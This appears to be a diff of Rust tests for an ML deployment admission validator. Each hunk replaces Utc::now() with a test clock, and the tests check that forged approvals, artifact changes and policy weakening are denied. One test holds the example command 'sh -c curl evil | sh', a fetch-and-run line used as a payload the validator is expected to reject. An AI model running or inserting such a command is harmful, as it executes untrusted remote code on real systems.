@@ -183,7 +183,7 @@ fn approvals_are_stamped_with_their_creator_and_cannot_be_forged_or_changed() {
     let Verdict::Denied(why) = validate(
         &approval_request("alice", forged, Operation::Create, None),
         &Namespace::empty().view(),
-        Utc::now(),
+        crate::testing::now(),
     ) else {
         panic!("a forged approver was admitted");
     };
@@ -197,7 +197,7 @@ fn approvals_are_stamped_with_their_creator_and_cannot_be_forged_or_changed() {
     stamped["approverGroups"] = json!(["ml-leads"]);
     let ok = approval_request("alice", stamped.clone(), Operation::Create, None);
     assert_eq!(
-        validate(&ok, &Namespace::empty().view(), Utc::now()),
+        validate(&ok, &Namespace::empty().view(), crate::testing::now()),
         Verdict::Allowed(vec![])
     );
     let mut claimed = stamped.clone();
@@ -205,7 +205,7 @@ fn approvals_are_stamped_with_their_creator_and_cannot_be_forged_or_changed() {
     let Verdict::Denied(why) = validate(
         &approval_request("alice", claimed, Operation::Create, None),
         &Namespace::empty().view(),
-        Utc::now(),
+        crate::testing::now(),
     ) else {
         panic!("a foreign group was admitted");
     };
@@ -219,7 +219,8 @@ fn approvals_are_stamped_with_their_creator_and_cannot_be_forged_or_changed() {
         Operation::Update,
         Some(json!({"spec": stamped})),
     );
-    let Verdict::Denied(why) = validate(&update, &Namespace::empty().view(), Utc::now()) else {
+    let Verdict::Denied(why) = validate(&update, &Namespace::empty().view(), crate::testing::now())
+    else {
         panic!("an approval was changed");
     };
     assert!(why.contains("immutable"), "{why}");
@@ -246,7 +247,7 @@ fn a_versions_artifact_cannot_change() {
         object: Some(new),
         old_object: Some(old.clone()),
     };
-    let Verdict::Denied(why) = validate(&req, &c.view(), Utc::now()) else {
+    let Verdict::Denied(why) = validate(&req, &c.view(), crate::testing::now()) else {
         panic!("allowed");
     };
     assert!(why.contains("spec.artifact.uri: ModelVersion fields model, version, artifact and source are immutable"), "{why}");
@@ -258,7 +259,7 @@ fn a_versions_artifact_cannot_change() {
         ..req
     };
     assert_eq!(
-        validate(&req, &c.view(), Utc::now()),
+        validate(&req, &c.view(), crate::testing::now()),
         Verdict::Allowed(vec![])
     );
 }
@@ -317,7 +318,7 @@ fn pinning_the_production_deployment_needs_an_approval_of_exactly_that_change() 
         d["spec"]["version"] = "7".into();
     };
     let req = edit(&c, "ModelDeployment", "pitch-frames-api", "erin", pin);
-    let Verdict::Denied(why) = validate(&req, &c.view(), Utc::now()) else {
+    let Verdict::Denied(why) = validate(&req, &c.view(), crate::testing::now()) else {
         panic!("a promoter pinned production without approval");
     };
     assert!(why.starts_with("ModelDeployment default/pitch-frames-api: changing spec.alias, spec.version (requested by erin) is not allowed"), "{why}");
@@ -332,14 +333,14 @@ fn pinning_the_production_deployment_needs_an_approval_of_exactly_that_change() 
         &change,
     )];
     assert_eq!(
-        validate(&req, &c.view(), Utc::now()),
+        validate(&req, &c.view(), crate::testing::now()),
         Verdict::Allowed(vec![])
     );
     // The approval signs off that change only: another image is not it.
     let swap = edit(&c, "ModelDeployment", "pitch-frames-api", "erin", |d| {
         d["spec"]["target"]["local"]["command"] = json!(["sh", "-c", "curl evil | sh"]);
     });
-    let Verdict::Denied(why) = validate(&swap, &c.view(), Utc::now()) else {
+    let Verdict::Denied(why) = validate(&swap, &c.view(), crate::testing::now()) else {
         panic!("one approval signed off another change");
     };
     assert!(
@@ -355,14 +356,14 @@ fn pinning_the_production_deployment_needs_an_approval_of_exactly_that_change() 
         ..req.clone()
     };
     assert!(matches!(
-        validate(&delete, &c.view(), Utc::now()),
+        validate(&delete, &c.view(), crate::testing::now()),
         Verdict::Denied(w) if w.contains("deleting it (requested by erin)")
     ));
     let staging = edit(&c, "ModelDeployment", "pitch-frames-staging", "erin", |d| {
         d["spec"]["strategy"] = json!({"type": "AllAtOnce"});
     });
     assert_eq!(
-        validate(&staging, &c.view(), Utc::now()),
+        validate(&staging, &c.view(), crate::testing::now()),
         Verdict::Allowed(vec![])
     );
 }
@@ -377,7 +378,7 @@ fn loosening_how_a_model_is_judged_needs_an_approval_and_its_description_does_no
         "erin",
         |m| m["spec"]["evaluations"][0]["gates"] = json!([]),
     );
-    let Verdict::Denied(why) = validate(&loosen, &c.view(), Utc::now()) else {
+    let Verdict::Denied(why) = validate(&loosen, &c.view(), crate::testing::now()) else {
         panic!("gates were dropped without approval");
     };
     assert!(why.contains("changing spec.evaluations[0].gates"), "{why}");
@@ -393,7 +394,7 @@ fn loosening_how_a_model_is_judged_needs_an_approval_and_its_description_does_no
         |m| m["spec"]["primaryMetric"]["maxRegression"] = json!(0.5),
     );
     assert!(matches!(
-        validate(&tolerance, &c.view(), Utc::now()),
+        validate(&tolerance, &c.view(), crate::testing::now()),
         Verdict::Denied(_)
     ));
     let describe = edit(
@@ -404,14 +405,14 @@ fn loosening_how_a_model_is_judged_needs_an_approval_and_its_description_does_no
         |m| m["spec"]["description"] = "Classifies pitch frames.".into(),
     );
     assert_eq!(
-        validate(&describe, &c.view(), Utc::now()),
+        validate(&describe, &c.view(), crate::testing::now()),
         Verdict::Allowed(vec![])
     );
     // The policies themselves are protected.
     let weaken = edit(&c, "PromotionPolicy", "production", "erin", |p| {
         p["spec"]["approvals"] = json!([])
     });
-    let Verdict::Denied(why) = validate(&weaken, &c.view(), Utc::now()) else {
+    let Verdict::Denied(why) = validate(&weaken, &c.view(), crate::testing::now()) else {
         panic!("a policy was weakened without approval");
     };
     assert!(
@@ -453,7 +454,7 @@ fn an_alias_approval_is_stamped_with_the_move_it_signs_off() {
     let Verdict::Denied(why) = validate(
         &approval_request("alice", bare.clone(), Operation::Create, None),
         &Namespace::empty().view(),
-        Utc::now(),
+        crate::testing::now(),
     ) else {
         panic!("an unbound approval was admitted");
     };
@@ -463,7 +464,7 @@ fn an_alias_approval_is_stamped_with_the_move_it_signs_off() {
     let Verdict::Denied(why) = validate(
         &approval_request("alice", bare, Operation::Create, None),
         &Namespace::empty().view(),
-        Utc::now(),
+        crate::testing::now(),
     ) else {
         panic!("a deployment approval without a change was admitted");
     };
@@ -499,7 +500,7 @@ fn an_alias_cannot_be_renamed_away_nor_an_evaluation_moved_to_another_version() 
         "erin",
         |a| a["spec"]["alias"] = "retired".into(),
     );
-    let Verdict::Denied(why) = validate(&rename, &c.view(), Utc::now()) else {
+    let Verdict::Denied(why) = validate(&rename, &c.view(), crate::testing::now()) else {
         panic!("production was renamed away without its removal's policy");
     };
     assert!(
@@ -513,7 +514,7 @@ fn an_alias_cannot_be_renamed_away_nor_an_evaluation_moved_to_another_version() 
         "erin",
         |e| e["spec"]["version"] = "7".into(),
     );
-    let Verdict::Denied(why) = validate(&moved, &c.view(), Utc::now()) else {
+    let Verdict::Denied(why) = validate(&moved, &c.view(), crate::testing::now()) else {
         panic!("an evaluation's results were moved to another version");
     };
     assert!(
@@ -528,7 +529,7 @@ fn an_alias_cannot_be_renamed_away_nor_an_evaluation_moved_to_another_version() 
         "erin",
         |e| e["spec"]["baseline"] = json!({"version": "8"}),
     );
-    let Verdict::Denied(why) = validate(&weak, &c.view(), Utc::now()) else {
+    let Verdict::Denied(why) = validate(&weak, &c.view(), crate::testing::now()) else {
         panic!("an evaluation chose its own baseline");
     };
     assert!(
